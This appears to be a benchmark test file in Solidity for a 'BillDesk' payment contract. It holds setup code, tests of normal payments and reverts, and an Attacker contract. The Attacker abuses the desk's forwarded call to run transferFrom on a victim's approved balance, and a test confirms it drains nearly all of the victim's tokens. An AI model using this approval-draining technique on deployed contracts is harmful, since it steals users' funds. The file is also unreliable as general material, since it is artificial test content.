// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./BillDesk.sol";
import "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-6549956b-ebb3-4280-8307-d24bd41fd3ab

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    address private maker = msg.sender;

    constructor() ERC20("Coin", "COIN") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker");
        _mint(to, amount);
    }
}

contract Utility {
    IERC20 private token;
    mapping(address => uint256) public paid;

    constructor(IERC20 t) {
        token = t;
    }

    function settle(address customer, uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        paid[customer] += amount;
    }

    function fail() external pure {
        revert("no bill");
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant OWNER = address(0x0111);
    address private constant ANA = address(0xA9A);
    uint256 private constant START = 1_700_000_000;

    Coin private token;
    Coin private other;
    BillDesk private desk;
    Utility private utility;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Coin();
        other = new Coin();
        desk = new BillDesk(OWNER);
        utility = new Utility(token);
        vm.startPrank(OWNER);
        desk.set(address(token), true);
        desk.set(address(other), true);
        vm.stopPrank();
        token.mint(ANA, 900e18);
        vm.prank(ANA);
        token.approve(address(desk), type(uint256).max);
        mallory = new Attacker(desk, token, other);
    }

    function test_Regular() public {
        bytes memory data = abi.encodeCall(Utility.settle, (ANA, 70e18));
        vm.prank(ANA);
        require(desk.pay(token, 100e18, address(utility), data, START) == 30e18, "the rest comes back");
        require(utility.paid(ANA) == 70e18 && token.balanceOf(ANA) == 830e18, "paid");
        vm.startPrank(OWNER);
        desk.set(address(other), false);
        desk.transferOwnership(ANA);
        vm.stopPrank();
        vm.startPrank(ANA);
        desk.acceptOwnership();
        desk.renounceOwnership();
        vm.stopPrank();
        require(!desk.tokens(address(other)) && desk.owner() == address(0), "renounced");
    }

    function test_Refuses() public {
        bytes memory data = abi.encodeCall(Utility.settle, (ANA, 70e18));
        vm.startPrank(ANA);
        vm.expectRevert(Late.selector);
        desk.pay(token, 100e18, address(utility), data, START - 1);
        vm.expectRevert(NoTarget.selector);
        desk.pay(token, 100e18, address(token), data, START);
        vm.expectRevert(NoTarget.selector);
        desk.pay(token, 100e18, address(desk), data, START);
        vm.expectRevert(NoData.selector);
        desk.pay(token, 100e18, address(utility), "abc", START);
        vm.expectRevert(bytes("no bill"));
        desk.pay(token, 100e18, address(utility), abi.encodeCall(Utility.fail, ()), START);
        Coin third = new Coin();
        third.approve(address(desk), 1);
        vm.expectRevert(NoToken.selector);
        desk.pay(third, 0, address(utility), data, START);
        vm.stopPrank();
        vm.prank(OWNER);
        vm.expectRevert(NoToken.selector);
        desk.set(ANA, true);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, address(this)));
        desk.set(address(third), true);
    }

    function exploit() public {
        mallory.run(ANA);
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 890e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    BillDesk private desk;
    IERC20 private token;
    IERC20 private other;

    constructor(BillDesk d, IERC20 t, IERC20 o) {
        desk = d;
        token = t;
        other = o;
    }

    function run(address who) external {
        bytes memory data = abi.encodeCall(IERC20.transferFrom, (who, address(this), token.balanceOf(who)));
        desk.pay(other, 0, address(token), data, block.timestamp);
    }
}
